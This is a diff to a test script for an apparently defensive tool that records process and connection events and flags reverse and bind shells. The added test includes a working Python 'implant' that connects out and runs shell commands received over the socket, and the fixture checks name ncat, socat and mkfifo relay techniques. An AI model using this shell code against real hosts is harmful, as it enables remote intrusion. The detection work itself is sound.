@@ -64,43 +64,50 @@ check_eq "the bind shells' streams: pipes (ncat -e), a socketpair (socat EXEC)" 
 	"$(sql "$S" "SELECT DISTINCT args, stdin, stdout FROM process WHERE how = 'exec' AND args IN ('/bin/sh', '/bin/bash') ORDER BY 1")"
 
 # --- Relayed reverse shells: the shell does not hold the connection ----------------------------
-check_eq "truth: each relayed shell ran what it was sent; ncat -c ran its one command" "4|1" \
-	"$(grep -c '^[a-z-]* 10\.200\.0\.66 445[0-3]: .*uid=0(root) gid=0(root) groups=0(root) vm' fixtures/shells-relayed.truth)|$(grep -c '^ncat-c (benign) 10\.200\.0\.66 4454: uid=0(root)' fixtures/shells-relayed.truth)"
+check_eq "truth: each relayed shell ran what it was sent; ncat -c ran its one command" "5|1" \
+	"$(grep -c '^[a-z-]* 10\.200\.0\.66 445[0-4]: .*uid=0(root) gid=0(root) groups=0(root) vm' fixtures/shells-relayed.truth)|$(grep -c '^ncat-c (benign) 10\.200\.0\.66 4455: uid=0(root)' fixtures/shells-relayed.truth)"
 # The process that connected to each of the attacker's ports, from the capture's connects.
 connector() {
 	q shells-relayed "SELECT k.comm || '/' || k.pid FROM ev_connect e JOIN task k ON k.id = e.task WHERE e.dport = $1"
 }
-check_eq "summary: the four relayed shells, each through the process holding its connection" \
+check_eq "summary: the five relayed shells, each through the process holding its connection" \
 	"netshell|sh|10.200.0.66:4450|through $(connector 4450)
 netshell|bash|10.200.0.66:4451|through $(connector 4451)
 netshell|sh|10.200.0.66:4452|through $(connector 4452)
-netshell|sh|10.200.0.66:4453|piped through $(connector 4453)" \
+netshell|sh|10.200.0.66:4453|piped through $(connector 4453)
+netshell|sh|10.200.0.66:4454|through $(connector 4454)" \
 	"$(query "SELECT kind, rtrim(subject, '/0123456789'), target, substr(detail, 1, instr(detail, ';') - 1) FROM r WHERE section = 'detection' AND kind LIKE '%shell' AND subject != '' ORDER BY target" summary shells-relayed.db)"
 check_eq "summary: what each ran is what the attacker sent (the login shell's profile first)" \
 	"4451|id -u; id; uname -n
 4450|id; uname -n
 4452|id; uname -n
-4453|id; uname -n" \
+4453|id; uname -n
+4454|id; uname -n" \
 	"$(query "SELECT substr(target, -4), substr(detail, instr(detail, ': ') + 2) FROM r WHERE kind = 'netshell' AND subject != '' ORDER BY 2, 1" summary shells-relayed.db)"
 check_eq "summary: ncat -c's one command and a script piped through a shell are not flagged" \
 	"bindshell|0|none
-netshell|4|" \
+netshell|5|" \
 	"$(query "SELECT kind, sum(subject != ''), ifnull(group_concat(CASE WHEN subject = '' THEN detail END), '') FROM r WHERE section = 'detection' AND kind LIKE '%shell' GROUP BY kind ORDER BY kind" summary shells-relayed.db)"
 check_eq "timeline: each relayed shell marked, on what it reads (pipes, a pty)" \
 	"/bin/sh|pipe|pipe
 bash -li|tty|tty
 /bin/sh|tty|tty
-/bin/sh -i|pipe|pipe" \
+/bin/sh -i|pipe|pipe
+/bin/sh|pipe|pipe" \
 	"$(query "SELECT args, stdin, stdout FROM r WHERE shell = 'netshell' ORDER BY ts_ns" timeline shells-relayed.db)"
 check_eq "timeline: ... each through the process holding its connection" \
 	"10.200.0.66:4450, through $(connector 4450)
 10.200.0.66:4451, through $(connector 4451)
 10.200.0.66:4452, through $(connector 4452)
-10.200.0.66:4453, piped through $(connector 4453)" \
+10.200.0.66:4453, piped through $(connector 4453)
+10.200.0.66:4454, through $(connector 4454)" \
 	"$(run_report timeline shells-relayed.db; grep -o '< [0-9.:]*, [a-z ]*through [a-z0-9]*/[0-9]*\]$' "$SCRATCH/out" | tr -d '<]' | sed 's/^ //')"
 check_match "timeline: its line names the connection and the relay" \
 	"/bin/sh -i  \\[shell on TCP 10\\.200\\.0\\.10:[0-9]+ < 10\\.200\\.0\\.66:4453, piped through ncat/[0-9]+\\]" \
 	"$(run_report timeline shells-relayed.db; cat "$SCRATCH/out")"
+check_eq "the implant: its connect 65 s before its shell, which its socket tells (held at the exec)" \
+	"65|4454" \
+	"$(sql "$SCRATCH/shells-relayed.db" "SELECT (s.t - e.t) / 1000000000, s.parent_tcp_rport FROM process s JOIN ev_connect e ON e.dport = s.parent_tcp_rport WHERE s.args = '/bin/sh' AND s.t > 60000000000")"
 check_eq "the mkfifo pipeline: the shell's output pipe is ncat's input" \
 	"1" \
 	"$(sql "$SCRATCH/shells-relayed.db" "SELECT count(*) FROM process s JOIN process n ON n.stdin_pipe = s.stdout_pipe WHERE s.args = '/bin/sh -i' AND n.comm = 'ncat' AND s.stderr_pipe = s.stdout_pipe")"
@@ -117,8 +124,6 @@ bindshell||not recorded" \
 
 # --- Live: what record reads of the streams ----------------------------------------------------
 needs_root "shells: record the streams of execs" || exit 0
-db=$SCRATCH/live.db
-start_record "$db" -e process,connect,accept || { fail "shells: record" "did not start"; exit 0; }
 # listen_once NAME: a listener in the background on a port the kernel gives
 # it, which it names in $SCRATCH/NAME.port once listening; it sends the one
 # connection it accepts "exit" and reads what comes back
@@ -141,6 +146,29 @@ while s.recv(4096):
 		sleep 0.05
 	done
 }
+# An implant connected before the recording, which later runs a shell on
+# pipes for its operator: its connect is not in the capture, only its socket.
+listen_once implant
+implant_listener=$!
+python3 -c 'import os, socket, subprocess, sys, time
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+while not os.path.exists(sys.argv[2]):
+    time.sleep(0.02)
+sh = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+sh.stdin.write(s.recv(4096))
+sh.stdin.close()
+s.sendall(sh.stdout.read())
+sh.wait()' "$(cat "$SCRATCH/implant.port")" "$SCRATCH/recording" > /dev/null 2>&1 < /dev/null &
+implant=$!
+for _ in $(seq 600); do # until it is connected
+	[ "$(ss -Htn state established "dport = :$(cat "$SCRATCH/implant.port")" | wc -l)" = 1 ] && break
+	sleep 0.05
+done
+db=$SCRATCH/live.db
+start_record "$db" -e process,connect,accept || { fail "shells: record" "did not start"; exit 0; }
+touch "$SCRATCH/recording"
+wait "$implant_listener" "$implant"
+
 listen_once reverse
 listener=$!
 port=$(cat "$SCRATCH/reverse.port")
@@ -171,7 +199,10 @@ check_eq "record: a reverse shell's streams are its TCP connection, to the liste
 	"$(sql "$db" "SELECT stdin, stdout, stderr, r.addr, tcp_rport, l.addr FROM process p JOIN address r ON r.id = tcp_raddr JOIN address l ON l.id = tcp_laddr WHERE how = 'exec' AND args = 'bash --norc --noprofile -i'")"
 check_eq "report: the relayed shell, on a pty, through the python that connected" \
 	"netshell|sh/|127.0.0.1:$(cat "$SCRATCH/relayed.port")|through python3/$relay" \
-	"$(cd "$SCRATCH" && "$report" summary --format csv "$db" | sqlite3 -batch :memory: ".import --csv /dev/stdin r" "SELECT kind, rtrim(subject, '0123456789'), target, substr(detail, 1, instr(detail, ';') - 1) FROM r WHERE kind = 'netshell' AND detail LIKE 'through%'")"
+	"$(cd "$SCRATCH" && "$report" summary --format csv "$db" | sqlite3 -batch :memory: ".import --csv /dev/stdin r" "SELECT kind, rtrim(subject, '0123456789'), target, substr(detail, 1, instr(detail, ';') - 1) FROM r WHERE kind = 'netshell' AND target = '127.0.0.1:$(cat "$SCRATCH/relayed.port")'")"
+check_eq "report: the implant's shell on pipes, through the connection it held, made before recording" \
+	"0|netshell|sh/|127.0.0.1:$(cat "$SCRATCH/implant.port")|through python3/$implant" \
+	"$(sql "$db" "SELECT count(*) FROM ev_connect WHERE dport = $(cat "$SCRATCH/implant.port")")|$(cd "$SCRATCH" && "$report" summary --format csv "$db" | sqlite3 -batch :memory: ".import --csv /dev/stdin r" "SELECT kind, rtrim(subject, '0123456789'), target, substr(detail, 1, instr(detail, ';') - 1) FROM r WHERE kind = 'netshell' AND target = '127.0.0.1:$(cat "$SCRATCH/implant.port")'")"
 check_eq "report: ... not the shell of a program that authenticates (sudo), which connected too" \
 	"1|0" \
 	"$(sql "$db" "SELECT count(*) FROM ev_connect e JOIN task k ON k.id = e.task WHERE k.comm = 'sudo'")|$(cd "$SCRATCH" && "$report" summary --format csv "$db" | grep -c 'through sudo/')"
